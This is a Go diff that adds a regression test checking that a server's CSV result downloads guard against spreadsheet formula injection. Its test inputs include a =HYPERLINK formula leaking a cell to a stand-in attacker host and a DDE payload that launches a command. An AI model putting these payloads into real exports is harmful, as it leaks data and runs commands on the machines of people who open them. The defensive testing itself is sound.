@@ -1,6 +1,7 @@
 package restapi_test
 
 import (
+	"bufio"
 	"bytes"
 	"net/http"
 	"net/url"
@@ -335,4 +336,78 @@ func TestCrossSiteGETDoesNotKill(t *testing.T) {
 	if got := str(t, alice.waitEnded(taskID), "status"); got != "Cancelled" {
 		t.Errorf("after the console's kill the job is %s", got)
 	}
+}
+
+// A CSV download writes a text cell that a spreadsheet would take for a
+// formula - beginning with '=', '+', '-', '@', a tab or a carriage return
+// - after a "'", which spreadsheets read as "text" (OWASP's CSV
+// injection); numbers, negative ones too, stay as they are, and so does
+// the rest of the text (a regression test of the security review: data
+// of a shared table, or another user's result an administrator exports,
+// ran as a formula on the downloader's machine - =HYPERLINK to leak the
+// sheet, DDE on older Excel). XLSX downloads write strings as strings.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	s := conformanceServer(t)
+	alice := s.newClient(t, nil)
+	alice.login("alice", alicePassword).ok(t)
+	code := `select '=HYPERLINK("http://attacker.invalid/?"&B2,"open")' as f, '@SUM(1+1)*cmd|'' /C calc''!A0' as g, '+1+2' as h, 'plain' as p, -7 as n, '-x' as "-c"`
+	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":`+strconv.Quote(code)+`},"labels":{"engineType":"sql-1","userCreator":"alice-IDE"}}`)
+	a.ok(t)
+	task := alice.waitEnded(idOf(t, a.Data, "taskID"))
+	if str(t, task, "status") != "Succeed" {
+		t.Fatalf("job %v", task)
+	}
+	d := alice.do("GET", "/filesystem/getDirFileTrees", url.Values{"path": {str(t, task, "resultLocation")}}, "")
+	d.ok(t)
+	set := str(t, list(t, obj(t, d.Data, "dirFileTrees"), "children")[0].(map[string]any), "path")
+	csv := alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {set}, "outputFileType": {"csv"}}, "")
+	if csv.http != 200 {
+		t.Fatalf("download: HTTP %d %s", csv.http, csv.raw)
+	}
+	sc := bufio.NewScanner(strings.NewReader(string(csv.raw)))
+	sc.Scan() // the header
+	if !sc.Scan() {
+		t.Fatalf("no row in %q", csv.raw)
+	}
+	row := sc.Text()
+	t.Logf("row as downloaded: %s", row)
+	for _, field := range splitCSV(row) {
+		if field != "" && strings.ContainsRune("=+-@", rune(field[0])) && field != "-7" {
+			t.Errorf("cell %q is written as a spreadsheet formula", field)
+		}
+	}
+	if !strings.HasPrefix(row, `"'=HYPERLINK(`) {
+		t.Errorf("the quoted cell begins %q: the guard goes inside the quotes", row[:min(len(row), 14)])
+	}
+	want := []string{`'=HYPERLINK("http://attacker.invalid/?"&B2,"open")`, `'@SUM(1+1)*cmd|' /C calc'!A0`, "'+1+2", "plain", "-7", "'-x"}
+	if got := splitCSV(row); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
+		t.Errorf("row %q, want %q", got, want)
+	}
+	header := strings.SplitN(string(csv.raw), "\n", 2)[0]
+	if !strings.HasSuffix(header, ",'-c") {
+		t.Errorf("a column named -c heads the file as %q", header)
+	}
+}
+
+// splitCSV splits one CSV line into its fields, unquoted.
+func splitCSV(line string) []string {
+	var out []string
+	var b strings.Builder
+	quoted := false
+	for i := 0; i < len(line); i++ {
+		c := line[i]
+		switch {
+		case quoted && c == '"' && i+1 < len(line) && line[i+1] == '"':
+			b.WriteByte('"')
+			i++
+		case c == '"':
+			quoted = !quoted
+		case c == ',' && !quoted:
+			out = append(out, b.String())
+			b.Reset()
+		default:
+			b.WriteByte(c)
+		}
+	}
+	return append(out, b.String())
 }
